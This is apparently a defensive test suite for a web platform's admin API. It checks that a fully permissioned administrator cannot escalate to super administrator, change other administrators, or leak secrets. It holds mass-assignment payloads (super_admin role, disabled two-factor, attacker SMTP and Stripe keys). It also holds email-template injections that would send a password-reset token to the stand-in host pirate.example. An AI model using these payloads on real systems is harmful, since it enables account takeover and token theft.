import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { holdsPermission, permissions, type Permission } from '@app/contract/core/permissions.ts';
import type { EndpointDefinition } from '@app/contract/core/endpoint.ts';
import { settingDefinitions, settingKeys } from '@app/contract/site/settings.ts';
import { linkToken, type Principal } from '@app/domain/accounts';
import { DomainError } from '@app/domain/platform';
import {
  buildAdministrator,
  buildLink,
  buildSecondFactor,
  createTestPlatform,
  readRows,
  type BuiltAccount,
  type TestPlatform,
} from '@app/domain/testing';
import { authorise } from '../http/authorise.ts';
import type { ApiClient } from '../testing/startApi.ts';
import { roleFor, unsafe, walked, type WalkedEndpoint } from './testing/contractWalk.ts';
import { openTarget, steadyBrowsers, type Target, type SteadyBrowsers } from './testing/openTarget.ts';
import { sampledCases } from './testing/sampledCases.ts';
import { validRequest, type JsonObject } from './testing/validRequest.ts';

/** Fields that would make a user a super administrator, or grant their access. */
const coveted: JsonObject = {
  role: 'super_admin',
  kind: 'administrator',
  permissions: [...permissions],
  active: true,
  isSuperAdmin: true,
  twoFactorRequired: false,
  admin_two_factor_required: 'false',
  smtp_host: 'mail.pirate.example',
  smtp_password: 'pirate-password',
  host: 'mail.pirate.example',
  port: 25,
  username: 'pirate',
  enabled: true,
  encryption: 'none',
  stripe_secret_key: 'sk_test_pirate',
  stripe_webhook_secret: 'whsec_pirate',
  stripe_connect_webhook_secret: 'whsec_pirate',
  stripe_thin_webhook_secret: 'whsec_pirate',
  secretKey: 'sk_test_pirate',
  webhookSecret: 'whsec_pirate',
  connectWebhookSecret: 'whsec_pirate',
  thinWebhookSecret: 'whsec_pirate',
};

/** Settings that nobody but a super administrator changes: secrets, the mail server, Stripe, what guards administrators. */
const guardedSettings = settingKeys.filter(
  (key) =>
    settingDefinitions[key].visibility === 'secret' || /^(?:smtp_|stripe_|email_enabled$|admin_two_factor)/.test(key),
);

describe('an agent who holds every permission', () => {
  let target: Target;
  let attacker: BuiltAccount;
  let colleague: BuiltAccount;
  let chief: BuiltAccount;
  let browser: ApiClient;
  let browsers: SteadyBrowsers;
  /** Secrets that give access: none of them may be in an answer. */
  const secrets = new Map<string, string>();
  beforeAll(async () => {
    target = await openTarget();
    browsers = steadyBrowsers(target);
    const { platform, signedIn } = target.api;
    attacker = target.accounts.agent;
    chief = await buildAdministrator(platform, { role: 'super_admin' });
    colleague = await buildAdministrator(platform, { permissions });
    await signedIn(chief);
    await signedIn(colleague);
    for (const { id, email } of [chief, colleague]) {
      secrets.set(
        `reset link of ${email}`,
        await buildLink(platform, { purpose: 'password_reset', email, accountId: null }),
      );
      secrets.set(`second factor of ${email}`, await buildSecondFactor(platform, { id, email }, 'active'));
    }
    await platform.settings.save(
      { smtp_password: 'mot-de-passe-du-serveur', admin_two_factor_required: 'false' },
      { at: platform.clock.now(), by: null },
    );
    secrets.set('mail server', 'mot-de-passe-du-serveur');
    secrets.set('Stripe', target.world.stripe.secretKey);
    secrets.set('webhook', target.world.stripe.webhookSecret);
    for (const [family, secret] of Object.entries(target.world.stripe.hostEventSecrets)) secrets.set(family, secret);
    secrets.set('password hashes', '$argon2');
  });
  afterAll(async () => target.stop());

  /** Everything that makes administrators what they are, the attacker's own password and sessions apart. */
  async function powers(): Promise<string[]> {
    const lines = await readRows<{ line: string }>(
      target.api.platform,
      `select 'administrator ' || adm::text as line from administrator adm
       union all select 'account ' || (a.id, a.kind, a.email, a.first_name, a.last_name, a.password_hash, a.closed_at)::text
         from account a where a.kind = 'administrator' and a.id <> $1
       union all select 'own ' || (a.id, a.kind, a.email)::text from account a where a.id = $1
       union all select 'factor ' || f::text from second_factor f where f.account_id <> $1
         and f.account_id in (select account_id from administrator)
       union all select 'code ' || r::text from recovery_code r where r.account_id <> $1
       union all select 'session ' || (s.id_hash, s.account_id, s.expires_at)::text from session s
         where s.account_id <> $1 and s.account_id in (select account_id from administrator)
       union all select 'setting ' || (s.key, s.value)::text from setting s where s.key = any ($2)`,
      [attacker.id, guardedSettings],
    );
    return lines.map(({ line }) => line).toSorted();
  }

  async function secretsNow(): Promise<Map<string, string>> {
    const { platform } = target.api;
    const links = await readRows<{ id: string; purpose: 'password_reset'; email: string }>(
      platform,
      `select l.id, l.purpose, l.email from account_link l join account a on a.email = l.email
       where a.kind = 'administrator' and l.purpose = 'password_reset'`,
    );
    const tokens = links.map(({ id, purpose, email }): [string, string] => [
      `reset link of ${email}`,
      linkToken(platform.keys, purpose, id),
    ]);
    return new Map([...secrets, ...tokens]);
  }

  async function expectNothingRevealed(answer: { body: unknown }): Promise<void> {
    const text = JSON.stringify(answer.body);
    for (const [what, secret] of await secretsNow()) expect(text, what).not.toContain(secret);
  }

  /** The same request about every administrator, in each place of its address where an id goes. */
  function aimed(path: string): string[] {
    const ids = [chief.id, colleague.id, attacker.id];
    const uuid = /[\da-f]{8}-[\da-f]{4}-[\da-f]{4}-[\da-f]{4}-[\da-f]{12}/g;
    return [path, ...(uuid.test(path) ? ids.map((id) => path.replaceAll(uuid, id)) : [])];
  }

  /** A body with coveted fields: added to a valid one, alone, or with another's id and address in every place. */
  function hostile(body: JsonObject | undefined): (JsonObject | undefined)[] {
    if (!body) return [undefined, coveted];
    const theirs = Object.fromEntries(
      Object.entries(body).map(([name, value]) => {
        if (/id$|assignedTo|administrator|account/i.test(name)) return [name, chief.id];
        if (/email|^to$/i.test(name)) return [name, chief.email];
        return [name, value];
      }),
    );
    const named = { id: chief.id, accountId: chief.id, administratorId: chief.id, user_id: chief.id };
    return [{ ...body, ...coveted }, coveted, { ...coveted, ...named, ...theirs }];
  }

  it.each(unsafe)('gains no rights, learns nothing and changes no administrator through $name', async (endpoint) => {
    const request = await validRequest(endpoint, target.world);
    const before = await powers();
    for (const { item: path, attacks } of sampledCases(aimed(request.path), hostile(request.body), () => 'address')) {
      for (const body of attacks) {
        browser = await browsers.of('agent');
        const answer = await browser.call(path, { method: endpoint.method, ...(body && { body }) });
        expect(answer.status).toBeLessThan(500);
        await expectNothingRevealed(answer);
        browsers.note('agent', answer);
        // What was done before had signed them out.
        if (answer.status === 401) browsers.forget('agent');
      }
    }
    expect(await powers()).toStrictEqual(before);
    const session = (await (await target.browserOf('agent')).call('/api/session')).body;
    expect(session).toMatchObject({ account: { id: attacker.id, role: 'admin' } });
  });

  it.each(walked.filter(({ method }) => method === 'GET'))('gets no secret from $name', async (endpoint) => {
    const { path } = await validRequest(endpoint, target.world);
    browser = await browsers.of('agent');
    for (const one of aimed(path)) await expectNothingRevealed(await browser.call(one));
  });

  it('is refused every endpoint for super administrators before the body is examined', async () => {
    browser = await target.browserOf('agent');
    const reserved = walked.filter(({ access }) => access.kind === 'super_admin');
    expect(reserved.length).toBeGreaterThan(8);
    for (const endpoint of reserved) {
      const { path } = await validRequest(endpoint, target.world);
      const answer = await browser.call(path, {
        method: endpoint.method,
        ...(endpoint.method !== 'GET' && { body: '[' }),
      });
      expect([endpoint.name, answer.status]).toStrictEqual([endpoint.name, 403]);
    }
  });

  it('finds no administrators among the customers', async () => {
    browser = await target.browserOf('agent');
    for (const endpoint of walked.filter(({ path }) => path.startsWith('/api/admin/users/:id'))) {
      const { body } = await validRequest(endpoint, target.world);
      for (const { id } of [chief, colleague, attacker]) {
        const answer = await browser.call(endpoint.path.replace(':id', id), {
          method: endpoint.method,
          ...(body && { body }),
        });
        expect([endpoint.name, answer.status]).toStrictEqual([endpoint.name, 404]);
      }
    }
  });

  it('cannot have a link that opens an account sent to their own address', async () => {
    browser = await target.browserOf('agent');
    const path = '/api/admin/email/templates/password_reset';
    for (const content of [
      '<p><a class="button" href="https://pirate.example/?t={{reset_url}}">Choisir</a></p>',
      '<p><img src="https://pirate.example/{{reset_url}}"></p>',
      '<p style="background:url(https://pirate.example/{{reset_url}})">Choisir</p>',
      '<p><a href="{{reset_url}}.pirate.example">Choisir</a></p>',
      '<p><a href="mailto:pirate@pirate.example?body={{reset_url}}">Choisir</a></p>',
    ]) {
      const answer = await browser.call(path, { method: 'PUT', body: { subject: 'Mot de passe', content } });
      // Refused, or saved without what leads away.
      expect([200, 422]).toContain(answer.status);
      const [sent] = await readRows<{ mail: string }>(
        target.api.platform,
        `select compiled_html || compiled_text || subject as mail from mail_template where key = 'password_reset'`,
      );
      expect(sent?.mail).toMatch(/<html/);
      expect(sent?.mail).not.toContain('pirate');
    }
  });

  it('was tried on every endpoint', () => {
    expect(target.visited()).toStrictEqual(walked.map(({ name }) => name).toSorted());
  });
});

describe('the access to an endpoint', () => {
  const everything = fc.record({
    kind: fc.constantFrom('customer' as const, 'agent' as const, 'super_admin' as const),
    held: fc.uniqueArray(fc.constantFrom<Permission>(...permissions)),
    endpoint: fc.constantFrom<WalkedEndpoint>(...walked),
  });
  let platform: TestPlatform;
  beforeAll(async () => {
    platform = await createTestPlatform();
  });
  afterAll(async () => platform.close());

  function principalOf(kind: 'customer' | 'agent' | 'super_admin', held: readonly Permission[]): Principal {
    return {
      accountId: '00000000-0000-4000-8000-0000000000b1',
      kind: kind === 'customer' ? 'customer' : 'administrator',
      role: kind === 'agent' ? 'admin' : kind,
      permissions: held,
      email: 'x@clairvolet.test',
      firstName: 'X',
      lastName: 'Y',
      emailConfirmed: true,
      hasSecondFactor: true,
      debugMode: false,
      sessionId: '00000000-0000-4000-8000-0000000000b2',
      provedAt: platform.clock.now(),
    };
  }

  function isLetIn(endpoint: EndpointDefinition, principal: Principal): boolean {
    try {
      authorise(endpoint, principal, platform);
      return true;
    } catch (error) {
      if (error instanceof DomainError && error.code === 'forbidden') return false;
      throw error;
    }
  }

  it('is granted exactly as the role and the permissions say', () => {
    const property = fc.property(everything, ({ kind, held, endpoint }) => {
      const principal = principalOf(kind, held);
      const { access } = endpoint;
      const isLet = isLetIn(endpoint, principal);
      if (access.kind === 'permission') {
        expect(isLet).toBe(holdsPermission(principal, access.permission));
        expect(isLet).toBe(kind === 'super_admin' || (kind === 'agent' && held.includes(access.permission)));
      }
      if (access.kind === 'super_admin') expect(isLet).toBe(kind === 'super_admin');
      if (access.kind === 'administrator') expect(isLet).toBe(kind !== 'customer');
      if (access.kind === 'customer') expect(isLet).toBe(kind === 'customer');
    });
    fc.assert(property, { numRuns: 3_000 });
  });

  it('for super administrators is never granted by a permission', () => {
    const all = principalOf('agent', permissions);
    const reserved = walked.filter(({ access }) => roleFor(access) === 'superAdmin');
    expect(reserved.filter((endpoint) => isLetIn(endpoint, all))).toStrictEqual([]);
  });
});
